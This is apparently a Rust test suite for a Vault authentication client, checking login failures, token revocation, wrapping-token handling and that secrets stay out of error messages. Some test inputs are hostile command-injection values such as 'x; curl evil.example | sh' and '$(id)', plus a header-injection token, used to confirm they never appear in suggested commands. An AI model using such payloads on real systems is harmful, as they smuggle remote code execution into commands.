use super::*;
use core::time::Duration;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Instant;

use harness::fault::Reply;
use harness::{Behaviour, FaultServer, Issuer};
use serde_json::{Value, json};

const LOGIN: &str = "/v1/auth/jwt/login";
const REVOKE: &str = "/v1/auth/token/revoke-self";
const UNWRAP: &str = "/v1/sys/wrapping/unwrap";

fn token() -> Value {
    json!({"auth": {"client_token": "hvs.planted", "accessor": "acc", "policies": ["p"], "lease_duration": 300,
        "token_type": "service", "num_uses": 0, "mfa_requirement": null}})
}

fn identity(address: &str) -> Settings {
    settings(address, jwt("jwt", "ci", &Issuer::new().token(&json!({}))))
}

/// Hooks that say stop as soon as the flag is set.
fn stopping(settings: &mut Settings) -> Arc<AtomicBool> {
    let flag = Arc::new(AtomicBool::new(false));
    let asked = Arc::clone(&flag);
    settings.hooks.stop = Arc::new(move || asked.load(Ordering::Relaxed));
    flag
}

fn late(time: Duration, status: u16, body: Value) -> Behaviour {
    Behaviour::compute(move |_| {
        thread::sleep(time);
        Reply::json(status, &body)
    })
}

fn revoked() -> Behaviour {
    Behaviour::answer(204, &[], "")
}

#[test]
fn answers_that_hold_no_usable_token() {
    let mut second_factor = token();
    second_factor["auth"]["client_token"] = "".into();
    second_factor["auth"]["mfa_requirement"] = json!({"mfa_request_id": "x"});
    let mut newline = token();
    newline["auth"]["client_token"] = "hvs.planted\nx-evil: 1".into();
    let wrapped = json!({"auth": null, "wrap_info": {"token": "hvs.planted", "creation_path": "auth/jwt/login"}});
    for (answer, code) in [
        (second_factor, Code::VaultNotSupported),
        (wrapped, Code::VaultNotSupported),
        (newline, Code::VaultAnswer),
        (json!({"auth": null}), Code::VaultAnswer),
        (json!({"auth": {"client_token": 1}}), Code::VaultAnswer),
    ] {
        let server = FaultServer::builder().on("POST", LOGIN, [Behaviour::json(200, &answer)]).start();
        let error = refused(&identity(&server.address));
        assert_eq!(error.code(), code, "{error}");
        assert!(!format!("{error} {error:?}").contains("planted"), "{error}");
        assert_eq!(server.count("/"), 1);
    }
}

const ORPHAN: &str = "its token is not known here and cannot be revoked";

fn three(behaviour: &Behaviour) -> [Behaviour; 3] {
    [behaviour.clone(), behaviour.clone(), behaviour.clone()]
}

#[test]
fn t20_every_login_that_may_have_given_a_token_says_so() {
    let own = |status| Behaviour::json(status, &json!({"errors": ["no"]}));
    let wrapped = json!({"auth": null, "wrap_info": {"token": "hvs.planted", "creation_path": "x".repeat(100_000)}});
    let mut newline = token();
    newline["auth"]["client_token"] = "hvs.planted\nx-evil: 1".into();
    let cases = [
        (three(&Behaviour::answer(503, &[], "<p>busy")), true),
        (three(&Behaviour::html_502()), true),
        (three(&Behaviour::CloseAfterRequest), true),
        (three(&Behaviour::answer(200, &[], "<p>hello")), true),
        (three(&Behaviour::answer(204, &[], "")), true),
        (three(&Behaviour::json(200, &json!({"auth": {"client_token": 1}}))), true),
        (three(&Behaviour::json(200, &json!({"auth": null}))), true),
        (three(&Behaviour::json(200, &wrapped)), true),
        (three(&Behaviour::json(200, &newline)), true),
        (three(&own(500)), true),
        // The last word is a no, and the first answer was lost.
        ([Behaviour::CloseAfterRequest, own(400), own(400)], true),
        ([Behaviour::CloseAfterRequest, own(403), own(403)], true),
        (three(&own(400)), false),
        (three(&own(403)), false),
        (three(&own(503)), false),
    ];
    for (number, (behaviours, expected)) in cases.into_iter().enumerate() {
        let server = FaultServer::builder().on("POST", LOGIN, behaviours).start();
        let error = refused(&identity(&server.address));
        assert_eq!(error.message().contains(ORPHAN), expected, "{number}: {error}");
        assert!(error.message().len() < 2000 && !format!("{error} {error:?}").contains("planted"), "{number}");
    }
    let limited = Behaviour::answer(429, &[("Retry-After", "1000")], "");
    let server = FaultServer::builder().on("POST", LOGIN, [limited]).start();
    assert!(!refused(&identity(&server.address)).message().contains(ORPHAN));
}

#[test]
fn t20_a_token_that_comes_with_a_second_factor_is_revoked() {
    let mut answer = token();
    answer["auth"]["mfa_requirement"] = json!({"mfa_request_id": "x"});
    for (behaviour, named) in [(revoked(), false), (Behaviour::json(500, &json!({"errors": ["no"]})), true)] {
        let server = FaultServer::builder()
            .on("POST", LOGIN, [Behaviour::json(200, &answer)])
            .on("POST", REVOKE, [behaviour])
            .start();
        let error = refused(&identity(&server.address));
        assert_eq!(error.code(), Code::VaultNotSupported, "{error}");
        assert_eq!(error.message().contains("-accessor acc`"), named, "{error}");
        assert_eq!(server.requests().last().unwrap().header("x-vault-token"), Some("hvs.planted"));
        assert_eq!((server.count(REVOKE), server.count("/")), (1, 2));
    }
}

#[test]
fn t20_after_a_stop_no_other_login_is_sent() {
    let flag = Arc::new(AtomicBool::new(false));
    let raised = Arc::clone(&flag);
    let stop = Behaviour::compute(move |_| {
        raised.store(true, Ordering::Relaxed);
        Reply::json(503, &json!({"errors": ["later"]}))
    });
    let server = FaultServer::builder().on("POST", LOGIN, [stop, Behaviour::json(200, &token())]).start();
    let mut settings = identity(&server.address);
    settings.hooks.stop = Arc::new(move || flag.load(Ordering::Relaxed));
    assert_eq!(refused(&settings).code(), Code::UsageInterrupted);
    assert_eq!(server.count("/"), 1);
}

#[test]
fn t11_what_the_server_says_of_a_token_is_short_and_no_command() {
    let policies: Vec<String> = (0..3000).map(|number| format!("{number}-{}", "p".repeat(150))).collect();
    let mut answer = token();
    answer["auth"]["policies"] = policies.into();
    answer["auth"]["token_type"] = "t".repeat(100_000).into();
    for accessor in ["x; curl evil.example | sh", "-h", "a b", "a`id`", "$(id)", "", "é", &"a".repeat(200_000)] {
        answer["auth"]["accessor"] = accessor.into();
        let server = FaultServer::builder()
            .on("POST", LOGIN, [Behaviour::json(200, &answer)])
            .on("POST", REVOKE, [Behaviour::json(500, &json!({"errors": ["no"]}))])
            .start();
        let vault = configured(&identity(&server.address));
        let session = vault.log_in().unwrap();
        let summary = session.token();
        assert_eq!(summary.accessor, None, "{accessor:.20}");
        assert_eq!(summary.policies.len(), 65);
        assert_eq!(summary.policies.last().unwrap(), "(2936 more)");
        assert!(summary.policies.iter().all(|policy| policy.len() <= 128) && summary.kind.len() <= 128);
        let left = session.end();
        assert!(left[0].contains("could not be revoked") && !left[0].contains("-accessor"), "{left:?}");
    }
    // The one that decides is found wherever it stands.
    let mut policies = vec!["p".to_owned(); 5000];
    policies.push("root".to_owned());
    answer["auth"]["policies"] = policies.into();
    let server = FaultServer::builder()
        .on("POST", LOGIN, [Behaviour::json(200, &answer)])
        .on("POST", REVOKE, [revoked()])
        .start();
    assert_eq!(refused(&identity(&server.address)).code(), Code::VaultTokenUnlimited);
}

#[test]
fn t11_a_role_that_is_no_name_is_in_no_command() {
    for (role, shown) in [("ci", true), ("ci`; curl evil.example | sh; `", false)] {
        let no = Behaviour::json(400, &json!({"errors": ["role could not be found"]}));
        let server = FaultServer::builder().on("POST", LOGIN, [no]).start();
        let error = refused(&settings(&server.address, jwt("jwt", role, &Issuer::new().token(&json!({})))));
        assert_eq!(error.hint().contains("vault read"), shown, "{}", error.hint());
        assert!(!error.hint().contains("curl"), "{}", error.hint());
    }
}

#[test]
fn t20_a_stop_during_a_login_waits_for_the_token_and_revokes_it() {
    let login = late(Duration::from_millis(1000), 200, token());
    let server = FaultServer::builder().on("POST", LOGIN, [login]).on("POST", REVOKE, [revoked()]).start();
    let mut settings = identity(&server.address);
    let flag = stopping(&mut settings);
    let vault = configured(&settings);
    let answer = thread::scope(|scope| {
        let login = scope.spawn(|| vault.log_in().map(|_| ()));
        thread::sleep(Duration::from_millis(300));
        flag.store(true, Ordering::Relaxed);
        login.join().unwrap()
    });
    assert_eq!(answer.unwrap_err().code(), Code::UsageInterrupted);
    assert_eq!(server.count(REVOKE), 1);
    let requests = server.requests();
    assert_eq!(requests.last().unwrap().header("x-vault-token"), Some("hvs.planted"));
}

#[test]
fn t20_a_login_without_answer_is_given_up_three_seconds_after_a_stop() {
    let server = FaultServer::builder().on("POST", LOGIN, [Behaviour::Silence]).start();
    let mut settings = identity(&server.address);
    let flag = stopping(&mut settings);
    let vault = configured(&settings);
    let started = Instant::now();
    let answer = thread::scope(|scope| {
        let login = scope.spawn(|| vault.log_in().map(|_| ()));
        thread::sleep(Duration::from_millis(200));
        flag.store(true, Ordering::Relaxed);
        login.join().unwrap()
    });
    let error = answer.unwrap_err();
    assert_eq!(error.code(), Code::UsageInterrupted);
    assert!(error.message().contains("cannot be revoked"), "{error}");
    assert!((3.0..8.0).contains(&started.elapsed().as_secs_f32()));
    // Who asked before sends nothing.
    assert_eq!(vault.log_in().map(|_| ()).unwrap_err().code(), Code::UsageInterrupted);
    assert_eq!(server.count("/"), 1);
}

#[test]
fn t20_a_revocation_is_one_attempt_of_three_seconds_that_nobody_stops() {
    for (behaviour, least) in [(Behaviour::Silence, 3.0), (Behaviour::CloseAfterRequest, 0.0)] {
        let server = FaultServer::builder()
            .on("POST", LOGIN, [Behaviour::json(200, &token())])
            .on("POST", REVOKE, [behaviour])
            .start();
        let mut settings = identity(&server.address);
        let flag = stopping(&mut settings);
        let vault = configured(&settings);
        let session = vault.log_in().unwrap();
        flag.store(true, Ordering::Relaxed);
        let started = Instant::now();
        let warnings = session.end();
        assert!((least..8.0).contains(&started.elapsed().as_secs_f32()));
        assert!(warnings[0].contains("vault token revoke -accessor acc"), "{warnings:?}");
        assert!(session.end().is_empty());
        drop(session);
        assert_eq!(server.count(REVOKE), 1);
    }
}

#[test]
fn t20_a_stop_does_not_keep_a_token_alive() {
    let server = FaultServer::builder()
        .on("POST", LOGIN, [Behaviour::json(200, &token())])
        .on("POST", REVOKE, [late(Duration::from_millis(500), 204, Value::Null)])
        .start();
    let mut settings = identity(&server.address);
    let flag = stopping(&mut settings);
    let vault = configured(&settings);
    let session = vault.log_in().unwrap();
    flag.store(true, Ordering::Relaxed);
    assert_eq!(session.capabilities(&["a".to_owned()]).unwrap_err().code(), Code::UsageInterrupted);
    drop(session);
    assert_eq!(server.count(REVOKE), 1);
}

#[test]
fn a_login_that_was_lost_and_sent_again_may_have_left_a_token() {
    let server = FaultServer::builder()
        .on("POST", LOGIN, [Behaviour::CloseAfterRequest, Behaviour::json(200, &token())])
        .on("POST", REVOKE, [revoked()])
        .start();
    let vault = configured(&identity(&server.address));
    let session = vault.log_in().unwrap();
    let warnings = session.warnings();
    assert!(warnings.len() == 1 && warnings[0].contains("lives 5 minutes"), "{warnings:?}");
    assert_eq!(server.count(LOGIN), 2);
    assert!(session.end().is_empty());
}

fn approle(address: &str, wrapped: bool) -> Settings {
    let mut credentials = Credentials::default();
    credentials.role_id = Some("role-id".to_owned());
    if wrapped {
        credentials.role = Some("ci".to_owned());
        credentials.wrapped_secret_id = value("hvs.wrapping");
    } else {
        credentials.secret_id = value("planted");
    }
    settings(address, credentials)
}

#[test]
fn a_secret_id_is_sent_once() {
    for behaviour in [Behaviour::CloseAfterRequest, Behaviour::html_502()] {
        let server = FaultServer::builder().on("POST", "/v1/auth/approle/login", [behaviour]).start();
        let error = refused(&approle(&server.address, false));
        assert!(error.hint().contains("may be used up"), "{error} {}", error.hint());
        assert_eq!(server.count("/"), 1);
    }
}

#[test]
fn a_wrapping_token_goes_to_two_places_and_an_unwrap_is_never_repeated() {
    let lookup = Behaviour::json(200, &json!({"data": {"creation_path": "auth/approle/role/CI/secret-id"}}));
    let secret = Behaviour::json(200, &json!({"data": {"secret_id": "planted"}}));
    let not_valid = json!({"errors": ["wrapping token is not valid or does not exist"]});
    for (unwrap, code, part) in [
        (Behaviour::CloseAfterRequest, Code::VaultUnreachable, "may be used up"),
        (Behaviour::html_502(), Code::VaultUnavailable, "may be used up"),
        (Behaviour::json(400, &not_valid), Code::VaultWrappingToken, "tell security"),
        (Behaviour::json(403, &json!({"errors": ["permission denied"]})), Code::VaultWrappingToken, "tell security"),
        (Behaviour::json(200, &json!({"data": {"other": "planted"}})), Code::VaultAnswer, "out of its wrapping"),
        (Behaviour::json(200, &json!({"data": null})), Code::VaultAnswer, "out of its wrapping"),
        (Behaviour::json(200, &json!({"data": {"secret_id": ""}})), Code::VaultAnswer, "no secret id"),
        (Behaviour::answer(200, &[], "<p>hello"), Code::VaultAnswer, "tell security"),
    ] {
        let server = FaultServer::builder()
            .on("POST", "/v1/sys/wrapping/lookup", [Behaviour::html_502(), lookup.clone()])
            .on("POST", UNWRAP, [unwrap])
            .start();
        assert_refused(&approle(&server.address, true), code, part);
        let requests = server.requests();
        let paths: Vec<&str> = requests.iter().map(|request| request.path.as_str()).collect();
        assert_eq!(paths, ["/v1/sys/wrapping/lookup", "/v1/sys/wrapping/lookup", UNWRAP]);
        for request in &requests {
            let unwrap = request.path == UNWRAP;
            assert_eq!(request.header("x-vault-token"), unwrap.then_some("hvs.wrapping"));
            assert_eq!(String::from_utf8_lossy(&request.body).contains("hvs.wrapping"), !unwrap);
        }
    }
    let server = FaultServer::builder()
        .on("POST", "/v1/sys/wrapping/lookup", [lookup])
        .on("POST", UNWRAP, [secret])
        .on("POST", "/v1/auth/approle/login", [Behaviour::json(200, &token())])
        .on("POST", REVOKE, [revoked()])
        .start();
    assert!(configured(&approle(&server.address, true)).log_in().unwrap().end().is_empty());
    let requests = server.requests();
    assert_eq!(requests.len(), 4);
    assert_eq!(requests[2].json(), json!({"role_id": "role-id", "secret_id": "planted"}));
    assert!(requests[2].header("x-vault-token").is_none());
}

#[test]
fn t23_nothing_that_is_shown_holds_a_secret() {
    let mut answer = token();
    answer["warnings"] = json!(["look \u{1b}[2J here"]);
    let server = FaultServer::builder()
        .on("POST", LOGIN, [Behaviour::json(200, &answer)])
        .on("POST", REVOKE, [Behaviour::json(500, &json!({"errors": ["no"]}))])
        .start();
    let settings = identity(&server.address);
    let vault = configured(&settings);
    let session = vault.log_in().unwrap();
    let shown = format!("{settings:?} {vault:?} {session:?} {:?} {:?}", session.token(), session.warnings());
    assert!(!shown.contains("planted") && !shown.contains("eyJ"), "{shown}");
    assert!(!session.warnings()[0].contains('\u{1b}'));
    assert!(!session.end()[0].contains("planted"));
}
